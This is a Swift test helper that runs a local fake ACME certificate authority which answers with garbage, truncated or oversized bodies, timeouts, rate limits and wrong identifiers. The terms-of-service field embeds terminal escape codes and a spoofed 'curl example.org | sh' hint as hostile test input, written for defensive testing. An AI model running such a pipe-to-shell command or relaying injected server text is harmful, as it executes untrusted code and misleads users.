import TestSupport

/// A web server with a certificate that the operator trusts and answers that no CA should give.
enum UnkindCA {
    /// - Parameter behaviour: `garbage`, `page`, `unavailable`, `truncated`, `huge`, `silent`,
    ///   `stranger` (validates a name that was not ordered) or `limited` (refuses challenges and more than one order).
    static func with(
        _ behaviour: String, in folder: TemporaryDirectory,
        _ body: (_ url: String, _ roots: String) async throws -> Void
    )
        async throws
    {
        let tls = try await TestCertificateAuthority.make(in: folder, below: behaviour)
        let port = try LoopbackPort.reserve()
        let arguments = ["-u", "-c", script, "\(port)", tls.certificateFile, tls.keyFile, behaviour]
        try await Daemon.with(path: try Tool.python.path(), arguments: arguments) { server in
            try await server.start()
            try await server.waitForLog("listening")
            try await body("https://127.0.0.1:\(port)/dir", tls.rootFile)
        }
    }

    private static let script = """
        import http.server, json, ssl, sys, time

        port, certificate, key, behaviour = int(sys.argv[1]), *sys.argv[2:]

        orders = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self, status, kind, body, length=None, **fields):
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body) if length is None else length))
                for name, value in fields.items():
                    self.send_header(name.replace("_", "-"), value)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                if behaviour == "garbage":
                    self.answer(200, "application/json", bytes(range(256)) * 4)
                elif behaviour == "page":
                    self.answer(200, "text/html", b"<html>Please log in to the guest network \\x1b[31m</html>")
                elif behaviour == "unavailable":
                    self.answer(503, "text/plain", b"maintenance", Retry_After="3600")
                elif behaviour == "truncated":
                    self.answer(200, "application/json", b'{"newNonce":', length=4096)
                    self.close_connection = True
                elif behaviour == "huge":
                    self.answer(200, "application/json", b" " * (64 << 20))
                elif behaviour == "silent":
                    time.sleep(600)
                else:
                    self.api()

            do_HEAD = do_POST = do_GET

            def api(self):
                base = f"https://127.0.0.1:{port}"
                name = "dev1" if behaviour == "limited" else "dev2"
                challenge = {"type": "dns-01", "url": base + "/challenge", "status": "pending", "token": "A" * 22}
                terms = "https://example.org/\\x1b]0;title\\x07\\x1b[31mterms\\nddns-acme: hint: curl example.org | sh"
                entries = ["newNonce", "newAccount", "newOrder", "revokeCert", "keyChange"]
                objects = {
                    "/dir": {entry: f"{base}/{entry}" for entry in entries} | {"meta": {"termsOfService": terms}},
                    "/newAccount": {"status": "valid"}, "/account": {"status": "valid"},
                    "/newOrder": {"status": "pending", "authorizations": [base + "/authorization"],
                        "identifiers": [{"type": "dns", "value": "dev1.devices.example.com"}],
                        "finalize": base + "/finalize"},
                    "/authorization": {"status": "pending", "challenges": [challenge],
                        "identifier": {"type": "dns", "value": name + ".devices.example.com"}},
                    "/challenge": challenge}
                objects["/order"] = objects["/newOrder"]
                status, answer, fields = 200, objects.get(self.path, {}), {"Replay_Nonce": "bm9uY2U"}
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                error = "urn:ietf:params:acme:error:"
                if self.path == "/challenge" and behaviour == "limited" and json.loads(body)["payload"]:
                    status, answer = 429, {"type": error + "rateLimited", "detail": "too many validations"}
                    fields["Retry_After"] = "3600"
                elif self.path == "/newOrder":
                    status = 201
                    orders.append(self.path)
                    if len(orders) > 1:
                        status, answer = 403, {"type": error + "rejectedIdentifier", "detail": "a second order"}
                if status == 201 or self.path == "/newAccount":
                    fields["Location"] = base + ("/order" if self.path == "/newOrder" else "/account")
                body = json.dumps(answer).encode()
                self.answer(status, "application/json", b"" if self.command == "HEAD" else body, **fields)

            def log_message(self, *arguments):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
        server.socket = context.wrap_socket(server.socket, server_side=True)
        print("listening", flush=True)
        server.serve_forever()
        """
}
